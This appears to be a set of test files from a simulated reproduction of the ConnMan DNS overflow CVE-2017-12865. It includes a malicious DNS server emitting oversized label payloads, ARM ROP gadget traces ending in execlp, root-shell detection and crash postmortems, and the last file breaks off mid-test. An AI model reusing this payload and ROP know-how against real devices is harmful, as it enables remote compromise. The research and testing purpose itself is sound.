    def radio_with_home(self, ssid="Home"):
        network = Network("home", subnet_prefix="192.168.0")
        gateway = Host("gw")
        network.attach(gateway, ip="192.168.0.1")
        dns = SimpleDnsServer(default_address="8.8.8.8")
        gateway.bind_udp(DNS_PORT, lambda payload, _d: dns.handle_query(payload))
        dhcp = DhcpServer("192.168.0", router="192.168.0.1", dns_server="192.168.0.1")
        radio = RadioEnvironment()
        radio.add(AccessPoint(ssid=ssid, network=network, dhcp=dhcp, signal_dbm=-50))
        return radio

    def test_device_daemon_matches_firmware(self):
        device = IoTDevice("tv", OPENELEC)
        assert device.daemon.arch == "arm"
        assert str(device.daemon.version) == "1.34"

    def test_profile_defaults_to_firmware(self):
        device = IoTDevice("tv", OPENELEC)
        assert device.profile == OPENELEC.default_profile

    def test_profile_override(self):
        device = IoTDevice("tv", OPENELEC, profile=NONE)
        assert device.profile == NONE

    def test_lookup_requires_network(self):
        device = raspberry_pi_3b(known_ssids=["Home"])
        event = device.lookup("x.example")
        assert event is None or event.kind == EventKind.DROPPED

    def test_join_and_resolve(self):
        radio = self.radio_with_home()
        device = raspberry_pi_3b(known_ssids=["Home"], profile=WX_ASLR)
        assert device.join_wifi(radio) is not None
        event = device.lookup("anything.example")
        assert event.kind == EventKind.RESPONDED
        assert device.online

    def test_phone_home_uses_vendor_name(self):
        radio = self.radio_with_home()
        device = raspberry_pi_3b(known_ssids=["Home"], profile=WX_ASLR)
        device.join_wifi(radio)
        event = device.phone_home()
        assert event.kind == EventKind.RESPONDED

    def test_status_line(self):
        device = raspberry_pi_3b(known_ssids=["Home"])
        assert "ubuntu-mate" in device.status()

    def test_compromise_reflects_daemon(self):
        device = raspberry_pi_3b(known_ssids=["Home"])
        assert not device.compromised
