"""Benign DNS servers, the stub resolver, and the malicious server."""

import pytest

from repro.dns import (
    DnsError,
    Message,
    MaliciousDnsServer,
    Rcode,
    RecordType,
    SimpleDnsServer,
    StubResolver,
    build_raw_response,
    fixed_blob_server,
    make_query,
)


class TestSimpleDnsServer:
    def make(self):
        return SimpleDnsServer(zone={"www.example.com": "93.184.216.34"},
                               zone6={"www.example.com": "2606:2800::1"})

    def test_answers_known_name(self):
        server = self.make()
        response = Message.decode(server.handle_query(make_query(1, "www.example.com").encode()))
        assert response.answers[0].address == "93.184.216.34"

    def test_case_insensitive_lookup(self):
        server = self.make()
        response = Message.decode(server.handle_query(make_query(1, "WWW.Example.COM").encode()))
        assert response.answers

    def test_aaaa_lookup(self):
        server = self.make()
        query = make_query(2, "www.example.com", RecordType.AAAA)
        response = Message.decode(server.handle_query(query.encode()))
        assert response.answers[0].rtype == RecordType.AAAA

    def test_unknown_name_nxdomain(self):
        server = self.make()
        response = Message.decode(server.handle_query(make_query(3, "nope.example").encode()))
        assert response.flags.rcode == Rcode.NXDOMAIN
        assert not response.answers

    def test_default_address_wildcard(self):
        server = SimpleDnsServer(default_address="10.0.0.1")
        response = Message.decode(server.handle_query(make_query(4, "anything.example").encode()))
        assert response.answers[0].address == "10.0.0.1"

    def test_garbage_ignored(self):
        assert self.make().handle_query(b"junk") is None

    def test_response_packets_ignored(self):
        server = self.make()
        query = make_query(5, "www.example.com")
        response_bytes = server.handle_query(query.encode())
        assert server.handle_query(response_bytes) is None

    def test_query_log(self):
        server = self.make()
        server.handle_query(make_query(6, "www.example.com").encode())
        server.handle_query(make_query(7, "missing.example").encode())
        assert [entry.answered for entry in server.log] == [True, False]

    def test_add_record(self):
        server = self.make()
        server.add_record("new.example", "1.1.1.1")
        response = Message.decode(server.handle_query(make_query(8, "new.example").encode()))
        assert response.answers[0].address == "1.1.1.1"


class TestStubResolver:
    def test_resolves_through_transport(self):
        server = SimpleDnsServer(zone={"a.example": "1.2.3.4"})
        result = StubResolver().resolve(server.handle_query, "a.example")
        assert result.ok and result.address == "1.2.3.4"

    def test_nxdomain_result(self):
        server = SimpleDnsServer()
        result = StubResolver().resolve(server.handle_query, "b.example")
        assert not result.ok and result.rcode == Rcode.NXDOMAIN

    def test_timeout_result(self):
        result = StubResolver().resolve(lambda _q: None, "c.example")
        assert not result.ok and result.rcode == Rcode.SERVFAIL

    def test_mismatched_id_rejected(self):
        def evil_transport(query_bytes):
            query = Message.decode(query_bytes)
            spoofed = make_query(query.id ^ 0xFFFF, query.questions[0].name)
            return build_raw_response(spoofed, b"\x01a\x00")

        with pytest.raises(DnsError):
            StubResolver().resolve(evil_transport, "d.example")

    def test_ids_vary(self):
        resolver = StubResolver()
        ids = {resolver.build_query("x.example").id for _ in range(16)}
        assert len(ids) > 8


class TestMaliciousServer:
    def test_raw_response_parses_as_dns(self):
        query = make_query(0x77, "victim.example")
        packet = build_raw_response(query, b"\x03abc\x00", address="6.6.6.6")
        response = Message.decode(packet)
        assert response.id == 0x77
        assert response.is_response
        assert response.answers[0].address == "6.6.6.6"

    def test_oversized_blob_survives_header_checks(self):
        query = make_query(0x78, "victim.example")
        blob = b"\x3f" + b"A" * 63 + b"\x3f" + b"B" * 63 + b"\x00"
        packet = build_raw_response(query, blob)
        # The benign codec chokes on the 2-label monster only when the
        # total name exceeds limits — but the header fields stay sane.
        assert packet[:2] == (0x78).to_bytes(2, "big")

    def test_serves_every_query(self):
        server = fixed_blob_server(b"\x01a\x00")
        for index, name in enumerate(("a.example", "b.example")):
            reply = server.handle_query(make_query(index, name).encode())
            assert reply is not None
        assert server.served == ["a.example", "b.example"]

    def test_per_query_payload_factory(self):
        def factory(query):
            return b"\x01" + query.questions[0].name[:1].encode() + b"\x00"

        server = MaliciousDnsServer(name_blob_factory=factory)
        reply = server.handle_query(make_query(1, "zebra.example").encode())
        assert b"\x01z\x00" in reply

    def test_ignores_garbage(self):
        assert fixed_blob_server(b"\x00").handle_query(b"\xff" * 4) is None
