"""TraceRecorder, ExperimentResult serialization, and the report CLI."""

import json

from repro.cli import main
from repro.connman import ConnmanDaemon
from repro.core import e6_firmware_survey
from repro.cpu import TraceRecorder
from repro.defenses import NONE, WX_ASLR
from repro.core import AttackScenario, attacker_knowledge
from repro.exploit import builder_for, deliver


class TestTraceRecorder:
    def test_records_instructions_and_natives(self):
        victim = ConnmanDaemon(arch="arm", profile=WX_ASLR)
        recorder = TraceRecorder()
        victim.loaded.process.trace = recorder
        exploit = builder_for("arm", WX_ASLR).build(
            attacker_knowledge(AttackScenario("arm", "t", WX_ASLR))
        )
        deliver(exploit, victim)
        kinds = {entry.kind for entry in recorder.entries}
        assert kinds == {"insn", "native"}
        native_names = [entry.text for entry in recorder.natives()]
        assert any("memcpy" in name for name in native_names)
        assert any("execlp" in name for name in native_names)

    def test_trace_order_matches_listing_5(self):
        victim = ConnmanDaemon(arch="arm", profile=WX_ASLR)
        recorder = TraceRecorder()
        victim.loaded.process.trace = recorder
        exploit = builder_for("arm", WX_ASLR).build(
            attacker_knowledge(AttackScenario("arm", "t", WX_ASLR))
        )
        deliver(exploit, victim)
        texts = [entry.text for entry in recorder.entries]
        # pop-gadget, blx, memcpy, pop{r4,pc} — twice — then pop-gadget, execlp.
        assert texts[0].startswith("pop {r0, r1, r2, r3, r5, r6, r7")
        assert texts[1] == "blx r3"
        assert "memcpy@plt" in texts[2]
        assert texts[3] == "pop {r4, r15}"
        assert "execlp@plt" in texts[-1]

    def test_limit_truncates(self):
        recorder = TraceRecorder(limit=2)
        recorder.record(0x1000, "insn", "nop")
        recorder.record(0x1001, "insn", "nop")
        recorder.record(0x1002, "insn", "nop")
        assert len(recorder) == 2
        assert recorder.truncated

    def test_describe_last(self):
        recorder = TraceRecorder()
        for index in range(5):
            recorder.record(0x1000 + index, "insn", f"op{index}")
        assert recorder.describe(last=2).count("\n") == 1
        assert "op4" in recorder.describe(last=1)

    def test_native_marker(self):
        recorder = TraceRecorder()
        recorder.record(0x2000, "native", "system(...)")
        assert str(recorder.entries[0]).startswith("*")

    def test_untraced_run_has_no_overhead_hooks(self):
        victim = ConnmanDaemon(arch="x86", profile=NONE)
        assert victim.loaded.process.trace is None


class TestExperimentSerialization:
    def test_to_dict_shape(self):
        result = e6_firmware_survey()
        payload = result.to_dict()
        assert payload["experiment"] == "E6"
        assert payload["all_pass"] is True
        assert len(payload["rows"]) == len(result.rows)
        json.dumps(payload)  # must be serializable

    def test_non_primitive_cells_stringified(self):
        from repro.core.experiments import ExperimentResult

        result = ExperimentResult("EX", "t", headers=("a",), rows=[((1, 2),)])
        assert result.to_dict()["rows"] == [["(1, 2)"]]


class TestReportCli:
    def test_report_selected_via_experiments(self, capsys):
        assert main(["experiments", "--only", "E6"]) == 0
        assert "E6:" in capsys.readouterr().out
