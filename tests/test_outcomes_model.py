"""DaemonEvent / ExecutionResult / scenario-result presentation model."""

import pytest

from repro.connman import DaemonEvent, EventKind
from repro.core import AttackScenario, ScenarioResult
from repro.cpu import ExecutionResult, SpawnRecord
from repro.defenses import NONE


class TestDaemonEvent:
    def test_root_shell_detection(self):
        spawn = SpawnRecord(path="/bin/sh", argv=(), uid=0)
        event = DaemonEvent(kind=EventKind.COMPROMISED, spawn=spawn)
        assert event.is_root_shell
        assert not event.is_dos

    def test_non_root_spawn_is_not_root_shell(self):
        spawn = SpawnRecord(path="/bin/sh", argv=(), uid=1000)
        event = DaemonEvent(kind=EventKind.COMPROMISED, spawn=spawn)
        assert not event.is_root_shell

    def test_dos_kinds(self):
        assert DaemonEvent(kind=EventKind.CRASHED).is_dos
        assert DaemonEvent(kind=EventKind.HUNG).is_dos
        assert not DaemonEvent(kind=EventKind.RESPONDED).is_dos
        assert not DaemonEvent(kind=EventKind.DROPPED).is_dos

    def test_describe_includes_signal_and_spawn(self):
        spawn = SpawnRecord(path="sh", argv=(), uid=0)
        event = DaemonEvent(kind=EventKind.COMPROMISED, spawn=spawn, detail="via rop")
        text = event.describe()
        assert "compromised" in text and "sh" in text and "via rop" in text
        crashed = DaemonEvent(kind=EventKind.CRASHED, signal="SIGSEGV")
        assert "SIGSEGV" in crashed.describe()


class TestExecutionResult:
    def test_spawned_flag(self):
        assert ExecutionResult(reason="execve", steps=4).spawned
        assert not ExecutionResult(reason="exit", steps=4).spawned

    def test_crash_carries_signal(self):
        class FakeFault(Exception):
            signal = "SIGSEGV"

        result = ExecutionResult(reason="fault", steps=1, fault=FakeFault())
        assert result.crashed and result.signal == "SIGSEGV"

    def test_describe(self):
        result = ExecutionResult(reason="exit", steps=12, detail="exit(0)")
        assert "12 steps" in result.describe()


class TestScenarioResult:
    def test_not_built_outcome(self):
        scenario = AttackScenario("x86", "none", NONE)
        result = ScenarioResult(scenario=scenario, exploit=None, event=None,
                                error="missing gadget")
        assert not result.succeeded
        assert result.outcome == "not built: missing gadget"
        assert result.row()[2] == "-"

    def test_crash_outcome_is_described(self):
        scenario = AttackScenario("x86", "none", NONE)
        event = DaemonEvent(kind=EventKind.CRASHED, signal="SIGSEGV", detail="boom")
        result = ScenarioResult(scenario=scenario, exploit=None, event=event)
        assert "SIGSEGV" in result.outcome


class TestSpawnRecord:
    def test_basename_matching(self):
        assert SpawnRecord(path="/usr/bin/sh", argv=(), uid=0).is_shell
        assert SpawnRecord(path="sh", argv=(), uid=0).is_shell
        assert not SpawnRecord(path="/bin/shutdown", argv=(), uid=0).is_shell

    def test_exec_family_paths(self):
        assert SpawnRecord(path="/bin//sh", argv=("/bin//sh",), uid=0).is_root_shell
