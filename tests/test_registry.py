"""The declarative experiment registry and its repro-results/v1 artifact.

Contract under test: specs expand deterministic seeded grids (stable
``grid_hash``), single-point registry runs render exactly like the legacy
hand-wired calls, the columnar artifact validates strictly and round-trips,
and a grid sweep sharded over workers — or SIGKILLed and resumed — emits a
byte-identical artifact.
"""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from repro.core import (
    REGISTRY,
    e1_dos,
    e6_firmware_survey,
    load_results,
    render_table,
    run_experiment,
    validate_results,
    write_results,
)
from repro.core.registry import (
    ExperimentSpec,
    all_experiments,
    derive_seed,
    get_experiment,
    register_experiment,
    registry_index_markdown,
)
from repro.core.resume import load_checkpoint_results

REPO_ROOT = Path(__file__).resolve().parent.parent

EXPECTED_IDS = ["E1", "E2", "E3", "E4", "E5", "E6", "E7", "E8",
                "E10", "E11", "E12", "E13", "E14", "E15", "E16"]


class TestSeedDerivation:
    def test_deterministic_and_31_bit(self):
        seed = derive_seed("E15.entropy", 64, 3, "victim")
        assert seed == derive_seed("E15.entropy", 64, 3, "victim")
        assert 0 <= seed < 2 ** 31

    def test_roles_and_runs_do_not_collide(self):
        seeds = {
            derive_seed("E15.entropy", entropy, run, role)
            for entropy in (16, 64, 256, 1024)
            for run in range(32)
            for role in ("victim", "attacker")
        }
        assert len(seeds) == 4 * 32 * 2

    def test_adjacent_run_roles_differ(self):
        """The historical ``attacker = victim + 1`` collision class."""
        for run in range(16):
            attacker = derive_seed("E15.entropy", 64, run, "attacker")
            next_victim = derive_seed("E15.entropy", 64, run + 1, "victim")
            assert attacker != next_victim


class TestRegistryContents:
    def test_all_paper_experiments_registered_in_order(self):
        assert [spec.id for spec in all_experiments()] == EXPECTED_IDS

    def test_unknown_id_names_known_ones(self):
        with pytest.raises(KeyError, match="E15"):
            get_experiment("E99")

    def test_specs_reachable_from_runner(self):
        assert e1_dos.spec is REGISTRY["E1"]
        assert e1_dos.spec.title == REGISTRY["E1"].title

    def test_duplicate_registration_rejected(self):
        with pytest.raises(ValueError, match="registered twice"):
            register_experiment("E1", "again")(lambda: None)

    def test_index_markdown_lists_every_spec(self):
        index = registry_index_markdown()
        for experiment_id in EXPECTED_IDS:
            assert f"| {experiment_id} |" in index

    def test_experiments_md_carries_the_generated_index(self):
        document = (REPO_ROOT / "EXPERIMENTS.md").read_text()
        assert registry_index_markdown() in document


class TestGridExpansion:
    def test_default_grid_is_single_point(self):
        spec = get_experiment("E1")
        assert spec.grid_points() == [{}]
        assert len(spec.trials()) == 1

    def test_grid_widening_is_sorted_product(self):
        spec = get_experiment("E16")
        points = spec.grid_points(
            grid={"queries_per_rate": (8, 12), "attack_budget": (4, 6)})
        assert points == [
            {"attack_budget": 4, "queries_per_rate": 8},
            {"attack_budget": 4, "queries_per_rate": 12},
            {"attack_budget": 6, "queries_per_rate": 8},
            {"attack_budget": 6, "queries_per_rate": 12},
        ]

    def test_params_pin_single_values(self):
        spec = get_experiment("E14")
        assert spec.grid_points(params={"trials": 4}) == [{"trials": 4}]

    def test_unknown_parameter_names_runner_signature(self):
        spec = get_experiment("E14")
        with pytest.raises(ValueError, match="bogus"):
            spec.grid_points(grid={"bogus": (1,)})

    def test_trial_seeds_follow_the_derivation_rule(self):
        spec = get_experiment("E14")
        for trial in spec.trials(grid={"trials": (2, 3)}):
            assert trial.seed == derive_seed(
                "E14", spec.entropy, trial.index, "trial")

    def test_grid_hash_stable_and_input_sensitive(self):
        spec = get_experiment("E10")
        assert spec.grid_hash == spec.grid_hash
        # Pinned: locks the seed rule + trial repr the checkpoints trust.
        assert spec.grid_hash == "716af68bc681e463"
        from repro.core.resume import grid_hash
        widened = grid_hash(spec.trials(grid={"max_attempts": (512, 2048)}))
        assert widened != spec.grid_hash


class TestDescribeParity:
    def test_e1_registry_run_matches_legacy_call(self):
        assert run_experiment("E1").describe() == e1_dos().describe()

    def test_e6_registry_run_matches_legacy_call(self):
        assert run_experiment("E6").describe() == e6_firmware_survey().describe()


def _artifact(tmp_path):
    run = run_experiment("E14", grid={"trials": (2, 3)})
    path = str(tmp_path / "e14.jsonl")
    write_results(path, run.artifact_header(), run.artifact_rows())
    return run, path


class TestResultsArtifact:
    def test_roundtrip(self, tmp_path):
        run, path = _artifact(tmp_path)
        header, rows = load_results(path)
        assert header == run.artifact_header()
        assert rows == run.artifact_rows()
        assert header["schema"] == "repro-results/v1"
        assert [row["outcome"] for row in rows] == ["pass", "pass"]

    def test_validation_names_the_offending_row(self, tmp_path):
        run, _ = _artifact(tmp_path)
        header, rows = run.artifact_header(), run.artifact_rows()
        bad = [dict(row) for row in rows]
        bad[1]["outcome"] = "exploded"
        with pytest.raises(ValueError, match="row 1"):
            validate_results(header, bad)

    def test_validation_rejects_header_drift(self, tmp_path):
        run, _ = _artifact(tmp_path)
        header = dict(run.artifact_header(), total=5)
        with pytest.raises(ValueError, match="total"):
            validate_results(header, run.artifact_rows())

    def test_validation_rejects_misindexed_rows(self, tmp_path):
        run, _ = _artifact(tmp_path)
        rows = [dict(row) for row in run.artifact_rows()]
        rows[0]["index"] = 7
        with pytest.raises(ValueError, match="row 0"):
            validate_results(run.artifact_header(), rows)

    def test_loader_rejects_tampered_file(self, tmp_path):
        _, path = _artifact(tmp_path)
        lines = Path(path).read_text().splitlines()
        lines[0] = lines[0].replace("repro-results/v1", "repro-results/v9")
        Path(path).write_text("\n".join(lines) + "\n")
        with pytest.raises(ValueError, match="schema"):
            load_results(path)


class TestRaggedTables:
    def test_render_table_names_the_ragged_row(self):
        with pytest.raises(ValueError, match="row 1"):
            render_table(("a", "b"), [(1, 2), (1, 2, 3)])

    def test_generator_rows_still_validated(self):
        rows = ((value,) * value for value in (2, 3))
        with pytest.raises(ValueError, match="row 0"):
            render_table(("a", "b", "c"), rows)


class TestGridOrchestrator:
    def test_workers_bit_identical_to_sequential(self):
        sequential = run_experiment("E14", grid={"trials": (2, 3)}, workers=1)
        sharded = run_experiment("E14", grid={"trials": (2, 3)}, workers=2)
        dump = lambda run: json.dumps(run.to_artifact(), sort_keys=True)
        assert dump(sharded) == dump(sequential)
        assert sharded.describe() == sequential.describe()

    def test_single_point_run_exposes_result(self):
        run = run_experiment("E1")
        assert run.ok
        assert run.result.experiment_id == "E1"
        assert run.slo_report.ok

    def test_spec_objects_run_directly(self):
        spec = get_experiment("E6")
        assert isinstance(spec, ExperimentSpec)
        assert run_experiment(spec).ok


# -- acceptance: SIGKILL a grid sweep, resume, byte-identical artifact --------

def _run_registry_cli(tmp_path, *extra, env_extra=None):
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO_ROOT / "src")
    env.pop("REPRO_SWEEP_KILL_AFTER", None)
    if env_extra:
        env.update(env_extra)
    return subprocess.run(
        [sys.executable, "-m", "repro", "run", "E14",
         "--grid", "trials=2,3", "--workers", "2", *extra],
        capture_output=True, text=True, env=env, cwd=str(tmp_path),
        timeout=120,
    )


class TestKillAndResumeCli:
    def test_sigkilled_grid_resumes_byte_identical(self, tmp_path):
        clean = _run_registry_cli(tmp_path, "--results", "clean.jsonl")
        assert clean.returncode == 0, clean.stderr

        ckpt = str(tmp_path / "grid.ckpt")
        killed = _run_registry_cli(
            tmp_path, "--checkpoint", ckpt, "--results", "killed.jsonl",
            env_extra={"REPRO_SWEEP_KILL_AFTER": "1"})
        assert killed.returncode == -9  # SIGKILL mid-grid
        assert len(load_checkpoint_results(ckpt)) == 1
        assert not (tmp_path / "killed.jsonl").exists()

        resumed = _run_registry_cli(
            tmp_path, "--resume", ckpt, "--results", "resumed.jsonl")
        assert resumed.returncode == 0, resumed.stderr
        assert resumed.stdout == clean.stdout
        assert "resumed" in resumed.stderr
        clean_bytes = (tmp_path / "clean.jsonl").read_bytes()
        assert (tmp_path / "resumed.jsonl").read_bytes() == clean_bytes

    def test_checkpoint_refuses_overwrite_without_resume(self, tmp_path):
        ckpt = str(tmp_path / "grid.ckpt")
        killed = _run_registry_cli(tmp_path, "--checkpoint", ckpt,
                                   env_extra={"REPRO_SWEEP_KILL_AFTER": "1"})
        assert killed.returncode == -9
        rerun = _run_registry_cli(tmp_path, "--checkpoint", ckpt)
        assert rerun.returncode == 2
        assert "--resume" in rerun.stderr
