"""Causal span tracing, crash postmortems, and Chrome-trace export.

The tentpole invariants: one exploit attempt is one connected span tree
from wire to verdict, a forced CVE-2017-12865 crash yields a
:class:`CrashReport` whose causal link resolves to the exact malicious
datagram, the Chrome export validates against the trace-event schema,
and same-seed runs produce byte-identical span trees.
"""

import json
from dataclasses import replace

import pytest

from repro.cli import main
from repro.core import run_forced_crash, run_observed_attack
from repro.net import UdpDatagram
from repro.obs import (
    Collector,
    export_chrome_trace,
    snapshot_payload,
    validate_chrome_trace,
)
from repro.obs.spans import PAYLOAD_SNAPSHOT_LIMIT

#: Every pipeline layer the tentpole must connect, wire to verdict.
PIPELINE_LAYERS = {
    "exploit.attempt", "net.deliver", "daemon.handle_query",
    "daemon.parse", "cpu.run",
}


class TestTracer:
    def test_nesting_follows_the_call_stack(self):
        tracer = Collector().tracer
        outer = tracer.start("exploit.attempt")
        inner = tracer.start("net.deliver")
        assert inner.parent_id == outer.span_id
        tracer.end(inner)
        sibling = tracer.start("daemon.parse")
        assert sibling.parent_id == outer.span_id
        tracer.end(sibling)
        tracer.end(outer)
        assert [span.name for span in tracer.roots()] == ["exploit.attempt"]
        assert [span.name for span in tracer.children(outer.span_id)] == \
               ["net.deliver", "daemon.parse"]

    def test_durations_come_from_the_simulated_clock(self):
        collector = Collector()
        span = collector.tracer.start("cpu.run")
        collector.advance(2.5)
        collector.tracer.end(span)
        assert span.duration == 2.5
        histogram = collector.metrics.histogram("span.cpu.run.duration")
        assert histogram.count == 1 and histogram.total == 2.5

    def test_context_manager_closes_on_exception(self):
        tracer = Collector().tracer
        with pytest.raises(RuntimeError):
            with tracer.span("daemon.parse"):
                raise RuntimeError("boom")
        assert tracer.spans[0].end is not None
        assert tracer.current is None

    def test_nearest_payload_span_is_innermost(self):
        tracer = Collector().tracer
        outer = tracer.start("net.deliver", payload="aa")
        tracer.start("daemon.handle_query")
        inner = tracer.start("daemon.parse", payload="bb")
        assert tracer.nearest_payload_span() is inner
        tracer.end(inner)
        assert tracer.nearest_payload_span() is outer

    def test_adopt_rebases_worker_ids(self):
        worker = Collector().tracer
        with worker.span("exploit.attempt"):
            with worker.span("cpu.run"):
                pass
        parent = Collector().tracer
        parent.end(parent.start("net.deliver"))  # parent already used id 0
        id_map = parent.adopt(worker.spans)
        assert id_map == {0: 1, 1: 2}
        adopted = parent.get(2)
        assert adopted.name == "cpu.run" and adopted.parent_id == 1
        assert parent.signature()[1] == worker.signature()[0]

    def test_snapshot_payload_caps_length(self):
        assert snapshot_payload(b"\xab" * 10) == "ab" * 10
        capped = snapshot_payload(b"\xcd" * (PAYLOAD_SNAPSHOT_LIMIT + 100))
        assert len(capped) == 2 * PAYLOAD_SNAPSHOT_LIMIT


class TestObservedAttack:
    @pytest.fixture(scope="class")
    def run(self):
        return run_observed_attack()

    def test_one_attempt_is_one_connected_tree(self, run):
        tracer = run.collector.tracer
        roots = tracer.roots()
        assert [root.name for root in roots] == ["exploit.attempt"]
        # Every span reaches the root through parent links.
        for span in tracer.spans:
            assert tracer.path(span.span_id)[0] == "exploit.attempt"
        assert all(span.end is not None for span in tracer.spans)

    def test_every_pipeline_layer_has_a_span(self, run):
        names = {span.name for span in run.collector.tracer.spans}
        assert PIPELINE_LAYERS <= names

    def test_events_carry_their_span_id(self, run):
        compromise = run.collector.bus.by_kind("daemon.compromise")
        assert compromise and compromise[0].span is not None
        span = run.collector.tracer.get(compromise[0].span)
        assert span.name == "daemon.parse"

    def test_wire_datagrams_are_stamped_with_trace_context(self, run):
        stamped = [d for d in run.network.traffic if d.span_id is not None]
        assert stamped
        for datagram in stamped:
            assert run.collector.tracer.get(datagram.span_id).name == "net.deliver"

    def test_same_seed_runs_are_byte_identical(self):
        first = run_observed_attack(seed=42)
        second = run_observed_attack(seed=42)
        assert first.collector.tracer.to_json() == second.collector.tracer.to_json()
        assert json.dumps(export_chrome_trace(first.collector)) == \
               json.dumps(export_chrome_trace(second.collector))

    def test_attack_still_lands(self, run):
        assert run.succeeded

    def test_span_id_is_metadata_not_identity(self):
        plain = UdpDatagram("1.1.1.1", 1, "2.2.2.2", 2, b"x")
        assert plain == replace(plain, span_id=7)
        assert "span_id" not in repr(replace(plain, span_id=7))


class TestForcedCrash:
    @pytest.fixture(scope="class")
    def crash(self):
        return run_forced_crash()

    def test_crash_is_captured(self, crash):
        assert crash.event is not None and crash.event.is_dos
        report = crash.collector.last_postmortem
        assert report is not None
        assert report.signal == "SIGSEGV"
        assert crash.collector.metrics.value("crash.postmortems") == 1

    def test_postmortem_links_to_the_offending_datagram(self, crash):
        report = crash.collector.last_postmortem
        carrier = crash.collector.tracer.get(report.span_id)
        assert carrier.name == "daemon.parse"
        assert report.datagram_hex == carrier.attrs["payload"]
        # The linked bytes really are the malicious reply: an oversized
        # Type A name of 'A' (0x41) labels.
        assert "41" * 32 in report.datagram_hex
        assert report.span_path[-1] == "daemon.parse"
        assert report.span_path[0] == "exploit.attempt"

    def test_smashed_state_is_visible(self, crash):
        report = crash.collector.last_postmortem
        assert report.pc == 0x41414141  # return address overwritten with 'AAAA'
        assert report.registers["eip"] == report.pc
        assert "41414141" in report.stack_hex.replace(" ", "")
        assert any(seg["name"] == "stack" for seg in report.segments)

    def test_crash_event_detail_embeds_the_report(self, crash):
        events = crash.collector.bus.by_kind("daemon.crash")
        assert events
        embedded = events[0].detail["postmortem"]
        assert embedded["pc"] == 0x41414141
        assert embedded["datagram_hex"] == crash.collector.last_postmortem.datagram_hex

    def test_render_and_export_round_trip(self, crash):
        report = crash.collector.last_postmortem
        text = report.render()
        assert "crash postmortem" in text and "causal span" in text
        json.dumps(report.to_dict())  # fully serializable
        json.dumps(crash.collector.to_dict())  # including via the collector


class TestChromeExport:
    def test_export_validates_and_covers_every_layer(self):
        run = run_observed_attack()
        document = export_chrome_trace(run.collector)
        count = validate_chrome_trace(document)
        assert count == len(document["traceEvents"]) > 0
        complete = [e for e in document["traceEvents"] if e["ph"] == "X"]
        assert PIPELINE_LAYERS <= {e["name"] for e in complete}
        instants = [e for e in document["traceEvents"] if e["ph"] == "i"]
        assert instants and all(e["s"] == "t" for e in instants)

    def test_timestamps_are_simulated_microseconds(self):
        collector = Collector()
        collector.advance(1.5)
        with collector.tracer.span("cpu.run"):
            collector.advance(0.25)
        document = export_chrome_trace(collector)
        event = document["traceEvents"][0]
        assert event["ts"] == 1_500_000.0
        assert event["dur"] == 250_000.0

    def test_validator_rejects_malformed_documents(self):
        with pytest.raises(ValueError, match="traceEvents"):
            validate_chrome_trace([])
        with pytest.raises(ValueError, match="unknown ph"):
            validate_chrome_trace({"traceEvents": [{"ph": "Z"}]})
        with pytest.raises(ValueError, match="missing keys"):
            validate_chrome_trace({"traceEvents": [
                {"ph": "X", "name": "x", "cat": "c", "ts": 0.0}
            ]})

    def test_unclosed_spans_are_not_exported(self):
        collector = Collector()
        collector.tracer.start("net.deliver")
        document = export_chrome_trace(collector)
        assert document["traceEvents"] == []


class TestCliCommands:
    def test_spans_command(self, capsys):
        assert main(["spans"]) == 0
        out = capsys.readouterr().out
        assert "exploit.attempt" in out and "cpu.run" in out

    def test_trace_export_validates(self, capsys):
        assert main(["trace-export", "--chrome"]) == 0
        document = json.loads(capsys.readouterr().out)
        assert validate_chrome_trace(document) > 0

    def test_postmortem_json(self, capsys):
        assert main(["postmortem", "--json"]) == 0
        report = json.loads(capsys.readouterr().out)
        assert report["signal"] == "SIGSEGV"
        assert report["datagram_hex"]
        assert report["span_path"][-1] == "daemon.parse"
