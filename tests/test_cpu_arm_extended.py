"""Extended ARM subset: logic ops and byte loads/stores."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cpu.arm import asm
from repro.cpu.arm.disasm import decode

from tests.test_cpu_arm import run_code


class TestDecode:
    def test_logic_registers(self):
        assert decode(asm.and_reg("r0", "r1", "r2"), 0).mnemonic == "and"
        assert decode(asm.orr_reg("r0", "r1", "r2"), 0).mnemonic == "orr"
        assert decode(asm.eor_reg("r0", "r1", "r2"), 0).mnemonic == "eor"

    def test_logic_immediates(self):
        insn = decode(asm.and_imm("r3", "r3", 0xFF), 0)
        assert insn.operands == ("r3", "r3", 0xFF)

    def test_byte_loads(self):
        insn = decode(asm.ldrb("r0", "r1", 4), 0)
        assert insn.mnemonic == "ldrb" and insn.operands == ("r0", "r1", 4)
        insn = decode(asm.strb("r2", "sp", -1), 0)
        assert insn.mnemonic == "strb" and insn.operands == ("r2", "r13", -1)


ROUNDTRIP = [
    lambda reg: asm.and_reg(reg, reg, "r1"),
    lambda reg: asm.orr_reg(reg, "r2", reg),
    lambda reg: asm.eor_imm(reg, reg, 0x3C),
    lambda reg: asm.ldrb(reg, "sp", 8),
    lambda reg: asm.strb(reg, "sp", 12),
]


@settings(max_examples=50)
@given(builder=st.sampled_from(ROUNDTRIP),
       reg=st.sampled_from([f"r{i}" for i in range(8)]))
def test_property_extended_roundtrip(builder, reg):
    code = builder(reg)
    insn = decode(code, 0x1000)
    assert insn.raw == code and not insn.is_bad


class TestExecute:
    def test_logic_semantics(self, scratch_space):
        code = (
            asm.mov_imm("r0", 0xF0)
            + asm.mov_imm("r1", 0x3C)
            + asm.and_reg("r2", "r0", "r1")   # 0x30
            + asm.orr_reg("r3", "r0", "r1")   # 0xFC
            + asm.eor_reg("r4", "r0", "r1")   # 0xCC
            + b"\xff\xff\xff\xff"
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["r2"] == 0x30
        assert process.registers["r3"] == 0xFC
        assert process.registers["r4"] == 0xCC

    def test_byte_store_load(self, scratch_space):
        code = (
            asm.mov_imm("r0", 0xAB)
            + asm.strb("r0", "sp", -4)
            + asm.ldrb("r1", "sp", -4)
            + b"\xff\xff\xff\xff"
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["r1"] == 0xAB

    def test_strb_truncates_to_byte(self, scratch_space):
        code = (
            asm.mov_imm("r0", 0xFF000000)
            + asm.orr_imm("r0", "r0", 0x12)
            + asm.strb("r0", "sp", -8)
            + asm.ldrb("r1", "sp", -8)
            + b"\xff\xff\xff\xff"
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["r1"] == 0x12

    def test_byte_store_does_not_clobber_neighbours(self, scratch_space):
        code = (
